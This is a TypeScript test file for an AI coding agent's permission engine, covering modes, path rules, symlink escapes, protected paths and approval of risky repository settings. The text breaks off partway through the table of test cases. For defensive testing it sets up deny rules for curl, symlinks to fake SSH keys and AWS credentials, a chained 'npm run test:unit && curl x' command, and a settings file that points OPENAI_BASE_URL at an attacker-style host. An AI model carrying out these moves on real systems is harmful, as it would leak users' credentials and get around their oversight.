// The permission engine, table-driven: modes, rules, paths, shell constructs, git safety,
// protected paths and repository settings. Each case names its rules, mode, tool, input and the
// verdict it must get; about a quarter must be allowed, so an engine that asks for everything
// fails. Real temp directories (symlinks included) and the real shell analysis.
import { strict as assert } from 'node:assert';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { z } from 'zod';
import type { AgentEvent } from '../../src/core/agent/events';
import { runToolCalls } from '../../src/core/agent/runTools';
import type { ToolUse } from '../../src/core/agent/runTools';
import { PermissionEngine } from '../../src/core/permissions/engine';
import type { PermissionMode, PermissionRules, Verdict } from '../../src/core/permissions/engine';
import { probeCaseInsensitive } from '../../src/core/permissions/paths';
import { approveSettings, loadSettings, riskyParts } from '../../src/core/permissions/settings';
import type { SettingsFile } from '../../src/core/permissions/settings';
import type { ApprovalAnswer, ApprovalRequest, Approver, Workspace } from '../../src/core/ports';
import { systemClock } from '../../src/core/ports';
import type { PermissionSubject, Tool } from '../../src/core/tools/types';

const READ_TOOLS = ['Read', 'Glob', 'Grep', 'LS'];
const WRITE_TOOLS = ['Edit', 'Write', 'MultiEdit'];

type Expect = 'allow' | 'ask' | 'deny';
type Files = { user?: object; project?: object; local?: object };

interface Case {
  name: string;
  mode?: PermissionMode;
  tool: string;
  /** A path (relative to the workspace unless absolute) or a command; @WS @OUT @HOME @SIB name the fixture's folders. */
  input: string;
  expect: Expect;
  rules?: PermissionRules;
  /** Settings files written before the engine is built. */
  settings?: Files;
  /** Settings contents the user approved earlier (the same as `settings`, or an older version). */
  approved?: Files;
  reason?: RegExp;
  rule?: string;
  suggestions?: string[];
  /** editsAreReviewed (VS Code). */
  reviewed?: boolean;
  caseInsensitive?: boolean;
  addDirs?: string[];
  cwd?: string;
  /** The shell's environment (the engine then sees a shell whose state it can read). */
  env?: Record<string, string>;
}

interface Fixture {
  base: string;
  ws: string;
  home: string;
  out: string;
  sib: string;
}

function makeFixture(): Fixture {
  // Canonical, so expected paths match on systems whose temp folder is a symlink (macOS).
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'tandem-engine-')));
  const f = { base, ws: join(base, 'proj'), home: join(base, 'home'), out: join(base, 'out'), sib: join(base, 'proj-evil') };
  const files = [
    'proj/src/a.ts', 'proj/src/deep/b.ts', 'proj/lib/a.ts', 'proj/secret/key.txt', 'proj/notes/todo.md', 'proj/config/app.json',
    'proj/.git/config', 'proj/.env', 'proj/sub/.env', 'proj/locked/a.ts', 'proj/in.txt',
    'home/.bashrc', 'home/.ssh/id_rsa', 'home/.aws/credentials', 'home/notes.txt', 'home/secrets/a.txt',
    'out/data.txt', 'out/sub/more.txt', 'out/.claude/nested/a.ts', 'proj-evil/x.txt',
    'proj/globbed/one.ts', 'proj/globbed/two.ts', 'proj/globbed/.hidden.ts', 'proj/globbed/deep/three.ts', 'proj/trap/ok.ts',
    'proj/hid/plain.ts', 'proj/gs/d1/ok.ts',
    ...Array.from({ length: 1001 }, (_, i) => `proj/many/f${i}.txt`),
  ];
  for (const rel of files) {
    mkdirSync(dirname(join(base, rel)), { recursive: true });
    writeFileSync(join(base, rel), 'x\n');
  }
  mkdirSync(join(f.ws, '.git', 'hooks'), { recursive: true });
  symlinkSync(f.out, join(f.ws, 'link-out'));
  symlinkSync(join(f.ws, 'secret'), join(f.ws, 'sl'));
  symlinkSync(join(f.ws, '.git'), join(f.ws, 'gitlink'));
  symlinkSync(join(f.out, 'new.txt'), join(f.ws, 'dangle'));
  symlinkSync(join(f.home, '.bashrc'), join(f.ws, 'rc'));
  // Symlinks a glob reaches inside the workspace, pointing at a secret.
  symlinkSync(join(f.home, '.ssh', 'id_rsa'), join(f.ws, 'trap', 'x.ts'));
  symlinkSync(join(f.home, '.ssh', 'id_rsa'), join(f.ws, 'hid', '.key.ts'));
  mkdirSync(join(f.ws, 'gs', 'd1', 'd2'));
  symlinkSync(join(f.home, '.ssh', 'id_rsa'), join(f.ws, 'gs', 'd1', 'd2', 'leak.ts'));
  symlinkSync(join(f.ws, '.git', 'hooks', 'pre-commit'), join(f.ws, 'hid', 'pre-commit'));
  return f;
}

/** Replaces @WS, @OUT, @HOME, @SIB in a case's strings with the fixture's folders. */
function fill<T>(value: T, f: Fixture): T {
  const json = JSON.stringify(value ?? null)
    .replace(/@WS/g, f.ws)
    .replace(/@OUT/g, f.out)
    .replace(/@HOME/g, f.home)
    .replace(/@SIB/g, f.sib);
  return JSON.parse(json) as T;
}

function subjectOf(tool: string, input: string, ws: string): PermissionSubject {
  if (tool === 'Bash') return { kind: 'command', command: input };
  const path = input.startsWith('/') || input.startsWith('~') ? input : join(ws, input);
  if (READ_TOOLS.includes(tool)) return { kind: 'read', path };
  if (WRITE_TOOLS.includes(tool)) return { kind: 'write', path };
  return { kind: 'none' };
}

async function run(c: Case, f: Fixture): Promise<Verdict> {
  const userDir = mkdtempSync(join(f.base, 'user-'));
  const tandem = join(f.ws, '.tandem');
  try {
    const files: Record<string, string> = {
      user: join(userDir, 'settings.json'),
      project: join(tandem, 'settings.json'),
      local: join(tandem, 'settings.local.json'),
    };
    const settings = fill(c.settings ?? {}, f) as Record<string, object>;
    for (const [scope, content] of Object.entries(settings)) {
      mkdirSync(dirname(files[scope]), { recursive: true });
      writeFileSync(files[scope], JSON.stringify(content));
    }
    const approved = fill(c.approved ?? {}, f) as Record<string, object>;
    for (const [scope, content] of Object.entries(approved)) approveSettings(files[scope], riskyParts(content as SettingsFile).hash, userDir);
    const loaded = loadSettings({ userDir, projectDirs: [f.ws], home: f.home });
    const rules: PermissionRules = fill(c.rules ?? {}, f);
    const union = (a: string[], b: string[] = []) => [...new Set([...a, ...b])];
    const mode: PermissionMode = c.mode ?? loaded.defaultMode ?? 'default';
    const engine = new PermissionEngine(
      mode,
      { allow: union(loaded.allow, rules.allow), ask: union(loaded.ask, rules.ask), deny: union(loaded.deny, rules.deny) },
      [f.ws, ...fill(c.addDirs ?? [], f), ...loaded.additionalDirectories],
      { home: f.home, userDir, editsAreReviewed: c.reviewed, caseInsensitive: c.caseInsensitive ?? false },
    );
    const tool = c.tool;
    const cwd = c.cwd ? fill(c.cwd, f) : f.ws;
    const shell = c.env ? { state: () => ({ cwd, env: c.env!, startEnv: c.env! }) } : undefined;
    return await engine.decide(tool, READ_TOOLS.includes(tool) || tool === 'TodoWrite', subjectOf(tool, fill(c.input, f), f.ws), cwd, shell);
  } finally {
    rmSync(tandem, { recursive: true, force: true });
    rmSync(userDir, { recursive: true, force: true });
  }
}

describe('permission engine (table)', () => {
  const CASES = cases();
  let f: Fixture;
  before(() => {
    f = makeFixture();
  });
  after(() => rmSync(f.base, { recursive: true, force: true }));

  it(`has at least 150 cases, about a quarter of them allowed (${CASES.length} cases)`, () => {
    assert.ok(CASES.length >= 150, `${CASES.length} cases`);
    const allowed = CASES.filter((c) => c.expect === 'allow').length;
    assert.ok(allowed / CASES.length >= 0.22, `${allowed} of ${CASES.length} allowed`);
    assert.equal(new Set(CASES.map((c) => c.name)).size, CASES.length, 'case names are unique');
  });

  for (const c of CASES) {
    const rules = c.rules ? ` rules=${JSON.stringify(c.rules)}` : '';
    const settings = c.settings ? ` settings=${JSON.stringify(c.settings)}${c.approved ? ' (approved)' : ''}` : '';
    it(`${c.name}: ${c.mode ?? 'default'} ${c.tool}(${c.input})${rules}${settings} → ${c.expect}`, async () => {
      const v = await run(c, f);
      const show = JSON.stringify(v);
      assert.equal(v.behavior, c.expect, show);
      if (c.reason) assert.match(v.reason, c.reason, show);
      if (c.rule) assert.equal(v.rule, fill(c.rule, f), show);
      if (c.suggestions) assert.deepEqual(v.suggestions, fill(c.suggestions, f), show);
    });
  }
});

describe('permission engine: rules added at run time, settings files', () => {
  let f: Fixture;
  let userDir: string;
  const tandem = () => join(f.ws, '.tandem');
  const engine = (mode: PermissionMode = 'default', rules: PermissionRules = {}) => new PermissionEngine(mode, rules, [f.ws], { home: f.home, userDir, caseInsensitive: false });
  const bash = (e: PermissionEngine, command: string) => e.decide('Bash', false, { kind: 'command', command }, f.ws);

  beforeEach(() => {
    f = makeFixture();
    userDir = join(f.home, '.tandem');
  });
  afterEach(() => rmSync(f.base, { recursive: true, force: true }));

  it('a session rule from a suggestion allows that command at once, and not others', async () => {
    const e = engine();
    const first = await bash(e, 'npm run test:unit --watch');
    assert.deepEqual([first.behavior, first.suggestions], ['ask', ['Bash(npm run test:unit:*)']]);
    await e.addRule('allow', first.suggestions[0], 'session');
    assert.equal((await bash(e, 'npm run test:unit')).behavior, 'allow');
    assert.equal((await bash(e, 'npm run test:e2e')).behavior, 'ask');
    assert.equal((await bash(e, 'npm run test:unit && curl x')).behavior, 'ask');
    assert.ok(!existsSync(tandem()), 'a session rule writes no file');
  });

  it('addRule local creates .tandem/settings.local.json (git-ignored) and the rule applies now and after reloading', async () => {
    const e = engine();
    await e.addRule('allow', 'Bash(make:*)', 'local');
    assert.equal((await bash(e, 'make build')).behavior, 'allow');
    const file = join(tandem(), 'settings.local.json');
    assert.deepEqual(JSON.parse(readFileSync(file, 'utf8')), { permissions: { allow: ['Bash(make:*)'] } });
    assert.equal(readFileSync(join(tandem(), '.gitignore'), 'utf8'), 'settings.local.json\n');
    const loaded = loadSettings({ userDir, projectDirs: [f.ws], home: f.home });
    assert.deepEqual(loaded.pendingApprovals, [], 'the user\'s own rule needs no second approval');
    assert.deepEqual(loaded.allow, ['Bash(make:*)']);
  });

  it('addRule project keeps the other keys of an existing file and writes atomically', async () => {
    mkdirSync(tandem(), { recursive: true });
    const file = join(tandem(), 'settings.json');
    writeFileSync(file, JSON.stringify({ model: 'x', permissions: { deny: ['Bash(curl:*)'], ask: [] }, hooks: { a: 1 } }));
    await engine().addRule('deny', 'Read(.env)', 'project');
    assert.deepEqual(JSON.parse(readFileSync(file, 'utf8')), { model: 'x', permissions: { deny: ['Bash(curl:*)', 'Read(.env)'], ask: [] }, hooks: { a: 1 } });
    assert.deepEqual(readdirSync(tandem()), ['settings.json'], 'no temporary file is left');
  });

  it('addRule refuses to overwrite a settings file that is not valid JSON', async () => {
    mkdirSync(tandem(), { recursive: true });
    const file = join(tandem(), 'settings.json');
    writeFileSync(file, '{ broken');
    await assert.rejects(engine().addRule('allow', 'Bash(make:*)', 'project'), /not valid JSON|could not be read/);
    assert.equal(readFileSync(file, 'utf8'), '{ broken');
  });

  it('addRule project does not approve other risky parts a repository slipped into the file', async () => {
    mkdirSync(tandem(), { recursive: true });
    writeFileSync(join(tandem(), 'settings.json'), JSON.stringify({ permissions: { defaultMode: 'bypassPermissions' } }));
    await engine().addRule('allow', 'Bash(make:*)', 'project');
    const loaded = loadSettings({ userDir, projectDirs: [f.ws], home: f.home });
    assert.equal(loaded.defaultMode, undefined);
    assert.equal(loaded.pendingApprovals.length, 1);
    assert.deepEqual(loaded.allow, []);
  });

  it('addRule user writes ~/.tandem/settings.json', async () => {
    await engine().addRule('allow', 'Bash(cargo build:*)', 'user');
    assert.deepEqual(JSON.parse(readFileSync(join(userDir, 'settings.json'), 'utf8')), { permissions: { allow: ['Bash(cargo build:*)'] } });
  });

  it('addRule rejects a malformed rule and changes nothing', async () => {
    const e = engine();
    await assert.rejects(e.addRule('allow', 'Bash(unclosed', 'user'), /Invalid permission rule/);
    assert.ok(!existsSync(join(userDir, 'settings.json')));
  });

  it('probes case sensitivity on the real file system', async () => {
    const dir = join(f.base, 'CaseProbe');
    mkdirSync(dir);
    const expected = existsSync(join(f.base, 'caseprobe'));
    assert.equal(await probeCaseInsensitive(dir), expected);
    // The engine asks the probe when not told; .GIT is protected either way.
    const e = new PermissionEngine('acceptEdits', {}, [dir], { home: f.home, userDir });
    const v = await e.decide('Write', false, { kind: 'write', path: join(dir, '.GIT', 'config') }, dir);
    assert.equal(v.behavior, 'ask', `protected in every spelling: ${JSON.stringify(v)}`);
  });

  it('the mode can change between decisions', async () => {
    const e = engine('plan');
    const write = { kind: 'write', path: join(f.ws, 'src/a.ts') } as const;
    assert.equal((await e.decide('Edit', false, write, f.ws)).behavior, 'deny');
    e.mode = 'acceptEdits';
    assert.equal((await e.decide('Edit', false, write, f.ws)).behavior, 'allow');
  });

  it('pending approvals list the risky parts in words, with a hash that follows only those parts', () => {
    mkdirSync(tandem(), { recursive: true });
    const file = join(tandem(), 'settings.json');
    const write = (s: object) => writeFileSync(file, JSON.stringify(s));
    write({ permissions: { allow: ['Bash(npm test)', 'Read(docs/**)'], deny: ['Bash(curl:*)'], defaultMode: 'acceptEdits' }, env: { OPENAI_API_KEY: 'sk-secret', OPENAI_BASE_URL: 'https://evil.example' }, apiKeyHelper: 'get-key.sh' });
    const a = loadSettings({ userDir, projectDirs: [f.ws], home: f.home });
    assert.equal(a.pendingApprovals.length, 1);
    const p = a.pendingApprovals[0];
    assert.equal(p.file, file);
    assert.deepEqual(p.items, [
      'defaultMode acceptEdits: edits apply without asking',
      'allow Bash(npm test) without asking',
      'env OPENAI_API_KEY (a secret, value hidden)',
      'env OPENAI_BASE_URL=https://evil.example',
    ]);
    assert.ok(!JSON.stringify(p).includes('sk-secret'), 'the key is never shown');
    assert.deepEqual([a.allow, a.deny, a.defaultMode, a.env, a.apiKeyHelper], [['Read(docs/**)'], ['Bash(curl:*)'], undefined, {}, undefined], 'the rest applies');

    // Key order and safe parts do not change the hash; a risky change does.
    write({ apiKeyHelper: 'get-key.sh', env: { OPENAI_BASE_URL: 'https://evil.example', OPENAI_API_KEY: 'sk-secret' }, permissions: { defaultMode: 'acceptEdits', deny: ['Bash(rm:*)'], allow: ['Read(docs/**)', 'Bash(npm test)'] } });
    assert.equal(loadSettings({ userDir, projectDirs: [f.ws], home: f.home }).pendingApprovals[0].hash, p.hash);

    approveSettings(file, p.hash, userDir);
    const b = loadSettings({ userDir, projectDirs: [f.ws], home: f.home });
    assert.deepEqual(b.pendingApprovals, []);
    assert.equal(b.defaultMode, 'acceptEdits');
    assert.deepEqual(b.env, { OPENAI_BASE_URL: 'https://evil.example', OPENAI_API_KEY: 'sk-secret' });
    assert.equal(b.apiKeyHelper, undefined, "a repository's apiKeyHelper never runs, approved or not");
    assert.deepEqual(JSON.parse(readFileSync(join(userDir, 'approved-settings.json'), 'utf8')), { [file]: p.hash });

    write({ permissions: { allow: ['Bash(npm test)', 'Bash(curl:*)'], defaultMode: 'acceptEdits' }, env: { OPENAI_API_KEY: 'sk-secret', OPENAI_BASE_URL: 'https://evil.example' }, apiKeyHelper: 'get-key.sh' });
    const c = loadSettings({ userDir, projectDirs: [f.ws], home: f.home });
    assert.equal(c.pendingApprovals.length, 1, 'a changed file needs approval again');
    assert.notEqual(c.pendingApprovals[0].hash, p.hash);
    assert.deepEqual(c.allow, []);
  });

  it('reports a settings file that is not valid JSON or has bad rules, and applies the rest', () => {
    mkdirSync(tandem(), { recursive: true });
    writeFileSync(join(tandem(), 'settings.json'), '{ nope');
    mkdirSync(userDir, { recursive: true });
    writeFileSync(join(userDir, 'settings.json'), JSON.stringify({ permissions: { deny: ['Bash(rm:*)', 'Bash(oops'], defaultMode: 'yolo' } }));
    const loaded = loadSettings({ userDir, projectDirs: [f.ws], home: f.home });
    assert.deepEqual(loaded.deny, ['Bash(rm:*)']);
    assert.equal(loaded.warnings.length, 3, loaded.warnings.join('\n'));
    assert.match(loaded.warnings.join('\n'), /settings\.json could not be read .*Fix the JSON/);
    assert.match(loaded.warnings.join('\n'), /Invalid permission rule "Bash\(oops"/);
    assert.match(loaded.warnings.join('\n'), /"permissions\.defaultMode" must be one of default, acceptEdits, plan, bypassPermissions, dontAsk \(got the string "yolo"\)/);
  });
});

describe('permission engine in the tool loop (runToolCalls)', () => {
  let f: Fixture;
  let ran: string[];
  const FakeBash: Tool<{ command: string }> = {
    name: 'Bash',
    description: 'Records the command instead of running it.',
    input: z.object({ command: z.string().describe('The command') }),
    readOnly: false,
    subject: (i) => ({ kind: 'command', command: i.command }),
    async execute(i) {
      ran.push(i.command);
      return { content: `ran ${i.command}` };
    },
  };
  const call = (id: string, command: string): ToolUse => ({ type: 'tool_use', id, name: 'Bash', input: { command } });
  const unused = () => Promise.reject(new Error('not used in this test'));
  async function runCalls(engine: PermissionEngine, approver: Approver | undefined, calls: ToolUse[]): Promise<AgentEvent[]> {
    const context = {
      cwd: f.ws,
      workspace: { roots: () => [f.ws], readFile: unused, stat: unused, list: unused, realpath: unused, ripgrepPath: () => undefined } as unknown as Workspace,
      proposals: { propose: unused },
      shell: { run: unused, dispose: () => {}, state: () => ({ cwd: f.ws, env: {}, startEnv: {} }) },
      session: { readFiles: new Map(), todos: [], scratchDir: f.base },
      clock: systemClock,
    };
    const events: AgentEvent[] = [];
    const gen = runToolCalls(calls, { tools: new Map([['Bash', FakeBash]]), context, permissions: engine, approver, maxParallel: 4 }, new AbortController().signal);
    for (let r = await gen.next(); !r.done; r = await gen.next()) events.push(r.value);
    return events;
  }
  const perms = (events: AgentEvent[]) => events.filter((e): e is Extract<AgentEvent, { type: 'permission' }> => e.type === 'permission');

  beforeEach(() => {
    f = makeFixture();
    ran = [];
  });
  afterEach(() => rmSync(f.base, { recursive: true, force: true }));

  it('asks with the suggestions, adds the rule "Allow always" names, and the next call is allowed by it', async () => {
    const engine = new PermissionEngine('default', {}, [f.ws], { home: f.home, userDir: join(f.home, '.tandem'), caseInsensitive: false });
    const asked: ApprovalRequest[] = [];
    const approver: Approver = {
      ask: async (req) => {
        asked.push(req);
        return { decision: 'allow', always: { rule: req.suggestions![0], scope: 'session' } };
      },
    };
    const events = await runCalls(engine, approver, [call('a', 'npm run build --prod'), call('b', 'npm run build'), call('c', 'npm run lint')]);
    assert.deepEqual(asked.map((r) => [r.toolUseId, r.suggestions]), [['a', ['Bash(npm run build:*)']], ['c', ['Bash(npm run lint:*)']]]);
    assert.deepEqual(ran, ['npm run build --prod', 'npm run build', 'npm run lint']);
    const [a, b] = perms(events);
    assert.deepEqual([a.behavior, a.decision, a.by, a.suggestions], ['ask', 'allow', 'user', ['Bash(npm run build:*)']]);
    assert.deepEqual([b.behavior, b.decision, b.by, b.rule], ['allow', 'allow', 'rule', 'Bash(npm run build:*)']);
    assert.ok(engine.rules('allow').includes('Bash(npm run build:*)'));
  });

  it('"remember" keeps the suggestions for the session; a denied call and a deny rule are reported with the rule', async () => {
    const engine = new PermissionEngine('default', { deny: ['Bash(curl:*)'] }, [f.ws], { home: f.home, userDir: join(f.home, '.tandem'), caseInsensitive: false });
    let answers: ApprovalAnswer[] = [{ decision: 'allow', remember: true }, { decision: 'deny', message: 'not now' }];
    const approver: Approver = { ask: async () => answers.shift()! };
    const events = await runCalls(engine, approver, [call('a', 'make test'), call('b', 'make test'), call('c', 'curl https://example.invalid'), call('d', 'cargo build')]);
    assert.deepEqual(ran, ['make test', 'make test']);
    assert.deepEqual(
      perms(events).map((p) => [p.toolUseId, p.behavior, p.decision, p.by, p.rule]),
      [
        ['a', 'ask', 'allow', 'user', undefined],
        ['b', 'allow', 'allow', 'rule', 'Bash(make test:*)'],
        ['c', 'deny', 'deny', 'rule', 'Bash(curl:*)'],
        ['d', 'ask', 'deny', 'user', undefined],
      ],
    );
    const denied = events.find((e) => e.type === 'tool_result' && e.toolUseId === 'c');
    assert.match(JSON.stringify(denied), /Permission denied: denied by rule Bash\(curl:\*\)/);
    answers = [];
  });

  it('without an approver an ask is denied and the model is told how to allow it', async () => {
    const engine = new PermissionEngine('default', {}, [f.ws], { home: f.home, userDir: join(f.home, '.tandem'), caseInsensitive: false });
    const events = await runCalls(engine, undefined, [call('a', 'make'), call('b', 'ls -la')]);
    assert.deepEqual(ran, ['ls -la']);
    const result = events.find((e) => e.type === 'tool_result' && e.toolUseId === 'a');
    assert.match(JSON.stringify(result), /needs approval.*nobody can approve it here/);
  });
});

/** One row: name, mode, tool, input, expected verdict, and what else the case sets or checks. */
function c(name: string, mode: PermissionMode, tool: string, input: string, expect: Expect, extra: Partial<Case> = {}): Case {
  return { name, mode, tool, input, expect, ...extra };
}
function cases(): Case[] {
  const MODES: PermissionMode[] = ['default', 'acceptEdits', 'plan', 'bypassPermissions'];
  const GIT = { allow: ['Bash(git:*)'] };
  return [
    // Modes × file tools.
    c('default reads inside the workspace', 'default', 'Read', 'src/a.ts', 'allow', { reason: /inside the workspace/ }),
    c('default globs the workspace', 'default', 'Glob', '.', 'allow'),
    c('default greps a folder inside', 'default', 'Grep', 'src', 'allow'),
    c('default lists a folder inside', 'default', 'LS', 'src', 'allow'),
    c('default runs TodoWrite', 'default', 'TodoWrite', '', 'allow'),
    c('default asks before an edit, offering its folder', 'default', 'Edit', 'src/a.ts', 'ask', { suggestions: ['Edit(src/**)'] }),
    c('default asks before creating a file', 'default', 'Write', 'src/new.ts', 'ask', { suggestions: ['Edit(src/**)'] }),
    c('default asks before a MultiEdit deeper down', 'default', 'MultiEdit', 'src/deep/b.ts', 'ask', { suggestions: ['Edit(src/deep/**)'] }),
    c('default offers the file itself at the top of the workspace', 'default', 'Write', 'top.txt', 'ask', { suggestions: ['Edit(/top.txt)'] }),
    c('default asks before a read outside, offering its folder', 'default', 'Read', '@OUT/data.txt', 'ask', { reason: /outside the workspace/, suggestions: ['Read(/@OUT/**)'] }),
    c('default asks before grepping a folder outside, offering that folder', 'default', 'Grep', '@OUT/sub', 'ask', { suggestions: ['Read(/@OUT/sub/**)'] }),
    c('default asks before a mutating tool without a path', 'default', 'Deploy', '', 'ask', { suggestions: ['Deploy'] }),
    c('reviewed edits inside go to review', 'default', 'Edit', 'src/a.ts', 'allow', { reviewed: true, reason: /review/ }),
    c('reviewed: a new file inside goes to review', 'default', 'Write', 'src/new.ts', 'allow', { reviewed: true }),
    c('reviewed: an edit outside still asks', 'default', 'Edit', '@OUT/data.txt', 'ask', { reviewed: true }),
    c('reviewed: a protected path still asks', 'default', 'Edit', '.git/config', 'ask', { reviewed: true, reason: /protected/ }),
    c('acceptEdits edits inside', 'acceptEdits', 'Edit', 'src/a.ts', 'allow', { reason: /acceptEdits/ }),
    c('acceptEdits creates a file inside', 'acceptEdits', 'Write', 'src/new.ts', 'allow'),
    c('acceptEdits MultiEdits inside', 'acceptEdits', 'MultiEdit', 'lib/a.ts', 'allow'),
    c('acceptEdits asks before a write outside', 'acceptEdits', 'Write', '@OUT/x.ts', 'ask', { reason: /outside the workspace/ }),
    c('acceptEdits asks before a read outside', 'acceptEdits', 'Read', '@OUT/data.txt', 'ask'),
    c('acceptEdits asks before a mutating tool without a path', 'acceptEdits', 'Deploy', '', 'ask'),
    c('plan reads inside', 'plan', 'Read', 'src/a.ts', 'allow'),
    c('plan greps inside', 'plan', 'Grep', 'src', 'allow'),
    c('plan runs TodoWrite', 'plan', 'TodoWrite', '', 'allow'),
    c('plan denies Edit and says to present a plan', 'plan', 'Edit', 'src/a.ts', 'deny', { reason: /plan mode is read-only: present a plan/ }),
    c('plan denies Write', 'plan', 'Write', 'src/new.ts', 'deny'),
    c('plan denies MultiEdit', 'plan', 'MultiEdit', 'src/a.ts', 'deny'),
    c('plan denies a mutating tool without a path', 'plan', 'Deploy', '', 'deny'),
    c('plan asks before a read outside', 'plan', 'Read', '@OUT/data.txt', 'ask'),
    c('plan denies an edit an allow rule covers', 'plan', 'Edit', 'src/a.ts', 'deny', { rules: { allow: ['Edit(src/**)'] } }),
    c('bypass writes outside', 'bypassPermissions', 'Write', '@OUT/x.ts', 'allow'),
    c('bypass edits inside', 'bypassPermissions', 'Edit', 'src/a.ts', 'allow'),
    c('bypass reads outside', 'bypassPermissions', 'Read', '@OUT/data.txt', 'allow'),
    c('bypass runs a mutating tool without a path', 'bypassPermissions', 'Deploy', '', 'allow'),

    // Rules: deny beats ask beats allow, in every mode.
    ...MODES.map((m) =>
      c(`${m}: deny beats ask and allow`, m, 'Read', 'secret/key.txt', 'deny', { rules: { deny: ['Read(secret/**)'], ask: ['Read(secret/**)'], allow: ['Read(secret/**)'] }, rule: 'Read(secret/**)' }),
    ),
    ...MODES.map((m) => c(`${m}: ask beats allow`, m, 'Read', 'notes/todo.md', 'ask', { rules: { ask: ['Read(notes/**)'], allow: ['Read(notes/**)'] }, rule: 'Read(notes/**)' })),
    c('an allow rule with // opens a read outside', 'default', 'Read', '@OUT/data.txt', 'allow', { rules: { allow: ['Read(/@OUT/**)'] }, rule: 'Read(/@OUT/**)' }),
    c('a Read rule covers Grep', 'default', 'Grep', '@OUT', 'allow', { rules: { allow: ['Read(/@OUT/**)'] } }),
    c('an Edit allow rule', 'default', 'Edit', 'src/a.ts', 'allow', { rules: { allow: ['Edit(src/**)'] }, rule: 'Edit(src/**)' }),
    c('an Edit rule covers Write', 'default', 'Write', 'src/new.ts', 'allow', { rules: { allow: ['Edit(src/**)'] } }),
    c('an Edit rule covers MultiEdit', 'default', 'MultiEdit', 'src/deep/b.ts', 'allow', { rules: { allow: ['Edit(src/**)'] } }),
    c('an Edit rule does not cover another folder', 'default', 'Write', 'lib/a.ts', 'ask', { rules: { allow: ['Edit(src/**)'] } }),
    c('an Edit deny rule covers Write', 'acceptEdits', 'Write', 'config/app.json', 'deny', { rules: { deny: ['Edit(config/**)'] } }),
    c('an Edit rule is not a Read rule', 'acceptEdits', 'Read', 'config/app.json', 'allow', { rules: { deny: ['Edit(config/**)'] } }),
    c('a Read deny rule covers Grep of that folder', 'default', 'Grep', 'secret', 'deny', { rules: { deny: ['Read(secret/**)'] } }),
    c('a pattern without a slash matches at any depth', 'default', 'Read', 'sub/.env', 'deny', { rules: { deny: ['Read(.env)'] } }),
    c('Read(.env) leaves .envrc alone', 'default', 'Read', '.envrc', 'allow', { rules: { deny: ['Read(.env)'] } }),
    c('a /pattern is anchored at the workspace', 'default', 'Read', 'config/app.json', 'deny', { rules: { deny: ['Read(/config)'] } }),
    c('a /pattern does not match deeper down', 'default', 'Read', 'sub/config', 'allow', { rules: { deny: ['Read(/config)'] } }),
    c('a ~/ pattern is anchored at home', 'default', 'Read', '@HOME/secrets/a.txt', 'deny', { rules: { deny: ['Read(~/secrets/**)'] } }),
    c('bypass: a // deny rule denies', 'bypassPermissions', 'Read', '@OUT/data.txt', 'deny', { rules: { deny: ['Read(/@OUT/**)'] } }),
    c('bypass: a deny rule denies an edit', 'bypassPermissions', 'Edit', 'locked/a.ts', 'deny', { rules: { deny: ['Edit(locked/**)'] } }),
    c('bypass: an ask rule asks', 'bypassPermissions', 'Edit', 'locked/a.ts', 'ask', { rules: { ask: ['Edit(locked/**)'] } }),
    c('a bare Edit rule covers the workspace', 'default', 'Edit', 'lib/a.ts', 'allow', { rules: { allow: ['Edit'] } }),
    c('a bare Edit rule does not open a path outside', 'default', 'Edit', '@OUT/data.txt', 'ask', { rules: { allow: ['Edit'] } }),
    c('a bare deny rule denies a tool', 'default', 'TodoWrite', '', 'deny', { rules: { deny: ['TodoWrite'] } }),
    c('a bare allow rule allows a tool', 'default', 'Deploy', '', 'allow', { rules: { allow: ['Deploy'] } }),
    c('a bare ask rule asks for a read-only tool', 'default', 'TodoWrite', '', 'ask', { rules: { ask: ['TodoWrite'] } }),
    c('a Write rule does not cover Edit', 'default', 'Edit', 'src/a.ts', 'ask', { rules: { allow: ['Write(src/**)'] } }),

    // Paths: canonical before matching.
    c('.. escaping the workspace is outside', 'acceptEdits', 'Write', 'src/../../outside.txt', 'ask', { reason: /outside the workspace/ }),
    c('.. escaping the workspace for a read', 'default', 'Read', 'sub/../../out/data.txt', 'ask'),
    c('.. that stays inside is inside', 'acceptEdits', 'Write', 'src/../lib/c.ts', 'allow'),
    c('a symlink to a folder outside: read', 'default', 'Read', 'link-out/data.txt', 'ask', { reason: /out\/data\.txt is outside/ }),
    c('a symlink to a folder outside: write', 'acceptEdits', 'Write', 'link-out/new.txt', 'ask'),
    c('an allow rule naming the symlink does not open its target', 'default', 'Edit', 'link-out/data.txt', 'ask', { rules: { allow: ['Edit(link-out/**)'] } }),
    c('a deny rule naming the symlink still denies', 'default', 'Read', 'link-out/data.txt', 'deny', { rules: { deny: ['Read(link-out/**)'] } }),
    c('a deny rule on the real folder covers a symlink to it', 'default', 'Read', 'sl/key.txt', 'deny', { rules: { deny: ['Read(secret/**)'] } }),
    c('a symlink to .git is protected', 'acceptEdits', 'Write', 'gitlink/config', 'ask', { reason: /protected/ }),
    c('a symlink to ~/.bashrc is protected', 'acceptEdits', 'Edit', 'rc', 'ask', { reason: /protected/ }),
    c('a dangling symlink is judged by where it points', 'acceptEdits', 'Write', 'dangle', 'ask', { reason: /out\/new\.txt is outside/ }),
    c('a sibling folder named like the workspace is outside: read', 'default', 'Read', '@SIB/x.txt', 'ask', { reason: /outside/ }),
    c('a sibling folder named like the workspace is outside: write', 'acceptEdits', 'Write', '@SIB/x.txt', 'ask'),
    c('~ is the home folder: read', 'default', 'Read', '~/notes.txt', 'ask', { reason: /home\/notes\.txt is outside/ }),
    c('~ is the home folder: write', 'acceptEdits', 'Write', '~/new.txt', 'ask'),
    c('an additional directory is inside: read', 'default', 'Read', '@OUT/data.txt', 'allow', { addDirs: ['@OUT'] }),
    c('an additional directory is inside: write', 'acceptEdits', 'Write', '@OUT/sub/new.txt', 'allow', { addDirs: ['@OUT'] }),
    c('an additional directory reached through a symlink', 'acceptEdits', 'Write', 'link-out/new.txt', 'allow', { addDirs: ['@OUT'] }),
    c('case-insensitive: .GIT is .git', 'acceptEdits', 'Write', '.GIT/config', 'ask', { caseInsensitive: true, reason: /protected/ }),
    c('case-insensitive: a deny rule matches SECRET', 'default', 'Read', 'SECRET/key.txt', 'deny', { caseInsensitive: true, rules: { deny: ['Read(secret/**)'] } }),
